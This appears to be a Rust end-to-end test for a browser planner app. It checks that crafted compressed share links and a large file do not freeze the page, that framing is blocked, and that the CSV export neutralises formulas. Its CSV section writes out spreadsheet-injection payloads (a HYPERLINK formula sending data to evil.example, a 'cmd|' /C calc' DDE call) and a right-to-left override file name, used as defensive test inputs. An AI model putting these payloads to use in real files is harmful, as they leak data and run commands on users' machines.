//! Hostile input against the release build (issue #19), in one page load: opening a short
//! crafted share link, a link at the planner's limits and a large library file is refused
//! or accepted without a long task over 200 ms (observed by the browser itself, a
//! PerformanceObserver of 'longtask' entries); a plan whose names a spreadsheet would run
//! gives a frontier CSV without a live cell; an imported link leaves no history entry; the
//! headers the build asks a host to send keep the planner out of frames.

use crate::support::Browser;
use crate::{open_app, open_step, wait_for_titles};
use planner::model::{
    supplier_contract, Interest, InterestId, InterestKind, InterestLink, Plan, PlanId, Priority,
    Relation, Score,
};
use planner::persist::exchange::{export, export_compact};
use serde_json::json;

/// The goal (issue #19): no task longer than this while the page opens a link or a file.
/// The MEASURE lines report it; on a quiet machine the longest is about 100 ms.
const GOAL_MS: f64 = 200.0;
/// What the test asserts: a freeze. Speed goals are measured, not asserted (the team's
/// rule), and a loaded machine stretches every task (here, under a load of 10 on two
/// cores, 100 ms tasks took up to 260 ms); the unfixed code held the page 6.5 s on the
/// review's short link and 41 s on a longer one.
const LONGEST_MS: f64 = 1_000.0;

/// A link the planner never makes: `json` deflated and base64url-encoded as a link is.
fn crafted_link(json: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let bytes = miniz_oxide::deflate::compress_to_vec(json.as_bytes(), 9);
    let mut out = String::from("#/share/");
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for k in 0..chunk.len() + 1 {
            out.push(ALPHABET[((n >> (18 - 6 * k)) & 63) as usize] as char);
        }
    }
    out
}

/// The review's plan: `interests` interests and one option serving them `serves` times.
fn review_plan(interests: usize, serves: usize) -> Plan {
    let mut plan = Plan::new(PlanId::parse("phostile").unwrap(), "Hostile", 0);
    let parties = [plan.parties[0].id.clone(), plan.parties[1].id.clone()];
    for k in 0..interests {
        plan.add_interest(&parties[k % 2], "x");
    }
    let issue = plan.add_issue("Issue");
    plan.add_option(&issue, "Option");
    let ids: Vec<InterestId> = plan.interests.iter().map(|i| i.id.clone()).collect();
    // A few ids, repeated: text that packs into a short link.
    plan.issues[0].options[0].serves = (0..serves).map(|k| ids[k % 8].clone()).collect();
    plan
}

/// A plan at the limits: every interest and serves entry the planner takes, and `links`
/// links between interests, with short repeated text so that it packs into a link.
fn plan_at_the_limits(links: usize) -> Plan {
    use planner::model::limits::*;
    let mut plan = Plan::new(PlanId::parse("plimits").unwrap(), "At the limits", 0);
    let parties = [plan.parties[0].id.clone(), plan.parties[1].id.clone()];
    for k in 0..MAX_INTERESTS {
        let id = InterestId::from_seq(plan.take_seq());
        plan.interests.push(Interest {
            id,
            party: parties[k % 2].clone(),
            statement: "i".into(),
            why: String::new(),
            priority: Priority::Medium,
            kind: InterestKind::Substantive,
        });
    }
    let ids: Vec<InterestId> = plan.interests.iter().map(|i| i.id.clone()).collect();
    for k in 0..links {
        plan.links.push(InterestLink {
            a: ids[k].clone(),
            b: ids[k + 1].clone(),
            relation: Relation::Shared,
        });
    }
    for i in 0..20 {
        let issue = plan.add_issue(&format!("Issue {i}"));
        for o in 0..10 {
            let option = plan.add_option(&issue, &format!("{o}")).unwrap();
            for party in &mut plan.parties {
                party.ratings.insert(option.clone(), Score::new(50.0));
            }
        }
        for party in &mut plan.parties {
            party.weights.insert(issue.clone(), Score::new(5.0));
        }
    }
    // Every option serves 100 interests: 20,000 entries, the limit.
    let per_option = MAX_SERVES / 200;
    for (n, option) in plan
        .issues
        .iter_mut()
        .flat_map(|i| &mut i.options)
        .enumerate()
    {
        option.serves = (0..per_option)
            .map(|k| ids[(n * per_option + k) % ids.len()].clone())
            .collect();
    }
    assert_eq!(plan.check_limits(), Ok(()));
    assert_eq!(plan.check(), Ok(()));
    plan
}

/// Starts recording long tasks (≥ 50 ms) from now.
fn watch_long_tasks(b: &Browser) {
    b.exec(
        "window.__long = [];
         if (!window.__longObserver) {
             window.__longObserver = new PerformanceObserver(l =>
                 l.getEntries().forEach(e => window.__long.push(e.duration)));
             window.__longObserver.observe({ type: 'longtask', buffered: false });
         }
         return true;",
        json!([]),
    );
}

/// The longest task since `watch_long_tasks`, after the page had a moment to report it.
fn longest_task(b: &Browser, what: &str) -> f64 {
    let long: Vec<f64> = b
        .exec_async(
            "const done = arguments[arguments.length - 1];
             setTimeout(() => done(window.__long), 300);",
            json!([]),
        )
        .as_array()
        .map(|a| a.iter().filter_map(|v| v.as_f64()).collect())
        .unwrap_or_default();
    let longest = long.iter().copied().fold(0.0, f64::max);
    println!(
        "MEASURE {what}: {} long task(s), longest {longest:.0} ms (goal {GOAL_MS:.0} ms)",
        long.len()
    );
    longest
}

/// Every cell of a CSV text (RFC 4180: quoted cells may hold commas, quotes and breaks).
fn cells(csv: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => out.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                if cell.ends_with('\r') {
                    cell.pop();
                }
                out.push(std::mem::take(&mut cell));
            }
            (_, c) => cell.push(c),
        }
    }
    out.push(cell);
    out
}

/// Records, from now, each state the share page shows: 'opening' (its status line while
/// it reads the link), then 'offer' or 'refusal'.
fn watch_share_page(b: &Browser) {
    b.exec(
        "window.__seen = [];
         const note = () => {
             const state = document.querySelector('section.share .share-actions') ? 'offer'
                 : document.querySelector('section.share > p[role=status]') ? 'opening'
                 : document.querySelector('section.page > p[role=alert]') ? 'refusal' : null;
             if (state && window.__seen[window.__seen.length - 1] !== state) {
                 window.__seen.push(state);
             }
         };
         if (window.__shareObserver) window.__shareObserver.disconnect();
         window.__shareObserver = new MutationObserver(note);
         window.__shareObserver.observe(document.body, { childList: true, subtree: true });
         return true;",
        json!([]),
    );
}

fn open_link(b: &Browser, fragment: &str) {
    b.exec(
        "location.hash = arguments[0]; return true;",
        json!([fragment]),
    );
}

/// The share page's answer, once it has read the link: its heading.
fn share_outcome(b: &Browser) -> String {
    b.wait_until("the link to be read", || {
        b.try_find(".share-actions")
            .or_else(|| b.try_find("main [role=alert]"))?;
        Some(b.text(&b.try_find("main h1")?))
    })
}

#[test]
fn hostile_links_and_files_are_refused_or_accepted_without_freezing_the_page() {
    let (_server, b) = open_app();
    wait_for_titles(&b, "the library", |t| !t.is_empty());

    // The headers the build asks a host to send (dist/_headers, README): no page may frame
    // the planner, not even one of its own origin, and no file is read as another type.
    let framed = b.exec_async(
        "const done = arguments[arguments.length - 1];
         const f = document.createElement('iframe');
         let answered = false;
         const answer = () => {
             if (answered) return;
             answered = true;
             let d = null;
             try { d = f.contentDocument; } catch (e) {}
             const shown = !!(d && d.querySelector('link[rel=stylesheet], script'));
             f.remove();
             fetch(location.href.split('#')[0]).then(r => done({
                 shown,
                 nosniff: r.headers.get('X-Content-Type-Options'),
                 csp: r.headers.get('Content-Security-Policy'),
             }));
         };
         f.onload = () => setTimeout(answer, 500);
         setTimeout(answer, 5000);
         f.src = location.href.split('#')[0];
         document.body.appendChild(f);",
        json!([]),
    );
    assert_eq!(
        framed["shown"],
        json!(false),
        "the planner was framed: {framed}"
    );
    assert_eq!(framed["nosniff"], json!("nosniff"), "{framed}");
    assert!(
        framed["csp"].as_str().is_some_and(
            |csp| csp.contains("frame-ancestors 'none'") && csp.contains("default-src 'self'")
        ),
        "{framed}"
    );
    // The browser says why (and that is the only error this test expects).
    let refused = b.console();
    assert!(
        refused.iter().any(|(_, m)| m.contains("frame-ancestors")),
        "{refused:?}"
    );

    // The review's short link: 4,000 interests, 700,000 repeated serves (6.5 s before).
    let link = crafted_link(&export_compact(&[review_plan(4_000, 700_000)], 0));
    println!("MEASURE the review's link: {} characters", link.len());
    watch_long_tasks(&b);
    open_link(&b, &link);
    b.wait_until("the refusal", || {
        let h = b.try_find("main h1")?;
        (b.text(&h) == "This share link cannot be opened").then_some(())
    });
    let refusal = b.text(&b.wait("main [role=alert]"));
    assert!(
        refusal.contains("longer than any link the planner makes")
            || refusal.contains("unpacks to more than"),
        "{refusal}"
    );
    let longest = longest_task(&b, "opening the review's link");
    assert!(
        longest <= LONGEST_MS,
        "the link held the page {longest:.0} ms"
    );

    // A link at the limits: every interest, link and serves entry the planner takes.
    let json = export_compact(&[plan_at_the_limits(1_000)], 0);
    let link = crafted_link(&json);
    println!(
        "MEASURE a plan at the limits: {} KB of JSON, a link of {} characters",
        json.len() / 1024,
        link.len()
    );
    b.exec("location.hash = '#/'; return true;", json!([]));
    wait_for_titles(&b, "the library", |t| !t.is_empty());
    watch_long_tasks(&b);
    watch_share_page(&b);
    open_link(&b, &link);
    let h = share_outcome(&b);
    // The page drew (and said what it was doing) before it read the link.
    let seen = b.exec("return window.__seen;", json!([]));
    assert_eq!(seen[0], json!("opening"), "{seen}");
    assert!(
        h == "A plan was shared with you" || h == "This share link cannot be opened",
        "{h}"
    );
    let longest = longest_task(&b, &format!("opening a link at the limits ({h})"));
    assert!(
        longest <= LONGEST_MS,
        "the link held the page {longest:.0} ms"
    );

    // A large library file: 16 MB at most, read in slices. This one (about 12 MB)
    // does not fit in the browser's storage, so nothing is imported.
    let plans: Vec<Plan> = (0..60)
        .map(|k| {
            let mut p = supplier_contract(PlanId::parse(&format!("pfile{k}")).unwrap(), 0);
            p.title = format!("Imported {k}");
            p.notes = "Background. ".repeat(16_000);
            p
        })
        .collect();
    let file = b.downloads().join("library.json");
    std::fs::create_dir_all(b.downloads()).unwrap();
    std::fs::write(&file, export(&plans, 0)).unwrap();
    println!(
        "MEASURE a library file of {} plans, {:.1} MB",
        plans.len(),
        std::fs::metadata(&file).unwrap().len() as f64 / 1048576.0
    );
    b.exec("location.hash = '#/'; return true;", json!([]));
    let before = wait_for_titles(&b, "the library", |t| !t.is_empty());
    watch_long_tasks(&b);
    b.send_keys(&b.wait("#import-file"), file.to_str().unwrap());
    let message = b.wait_until("the import's answer", || {
        let e = b.try_find(".import-error")?;
        Some(b.text(&e))
    });
    assert!(
        message.contains("Nothing was imported from “library.json”: there is not enough room"),
        "{message}"
    );
    assert!(message.contains("left as it was"), "{message}");
    let longest = longest_task(&b, "reading a 12 MB library file");
    assert!(
        longest <= LONGEST_MS,
        "the file held the page {longest:.0} ms"
    );
    assert_eq!(crate::listed_titles(&b), before, "nothing was imported");

    // Names a spreadsheet would run: the frontier CSV holds none as a live cell.
    let mut plan = supplier_contract(PlanId::parse("pcsv").unwrap(), 0);
    plan.title = "Formulas\u{202E}vsc.exe".into();
    let leads = ["=", "+", "-", "@", "\t", "\r", " =", "\u{0}@"];
    for (k, issue) in plan.issues.iter_mut().enumerate() {
        issue.name = format!("{}SUM(1+{k})", leads[k % leads.len()]);
        for (o, option) in issue.options.iter_mut().enumerate() {
            option.label = format!(
                "{}HYPERLINK(\"https://evil.example/?\"&A{o},\"x\")",
                leads[(k + o) % leads.len()]
            );
        }
    }
    for (k, party) in plan.parties.iter_mut().enumerate() {
        party.name = format!("{}cmd|' /C calc'!A{k}", leads[(k + 2) % leads.len()]);
    }
    for (k, package) in plan.packages.iter_mut().enumerate() {
        package.name = format!("{}1+{k}", leads[(k + 5) % leads.len()]);
    }
    let link = planner::formats::share::encode(&plan, 0).unwrap();
    let history = b.exec("return history.length;", json!([]));
    open_link(&b, &link);
    assert_eq!(share_outcome(&b), "A plan was shared with you");
    b.click(&b.wait(".share-actions button.primary"));
    b.wait("#plan-title");
    // Importing replaced the link's history entry: Back leads to the library, not the link.
    assert_eq!(b.exec("return history.length;", json!([])), {
        let n = history.as_u64().unwrap();
        json!(n + 1)
    });
    b.exec("history.back(); return true;", json!([]));
    b.wait_until("the page before the link", || {
        let url = b.current_url();
        (!url.contains("/share/") && !url.contains("/plan/")).then_some(url)
    });
    b.exec("history.forward(); return true;", json!([]));
    b.wait("#plan-title");
    crate::dom::close_notice(&b);
    open_step(&b, "Packages");
    b.wait(".package-card .verdict");
    b.click(&b.wait(".export button"));
    let csv = std::fs::read_to_string(b.wait_download("-frontier.csv")).unwrap();
    let live: Vec<String> = cells(&csv)
        .into_iter()
        .filter(|cell| {
            cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(['=', '+', '-', '@'])
        })
        .collect();
    assert!(live.is_empty(), "live cells: {live:?}");
    assert!(csv.contains("'=SUM(1+0)"), "{csv:.400}");
    assert!(!csv.contains(['\u{0}', '\u{202E}']));
    crate::assert_clean_console(&b);
}
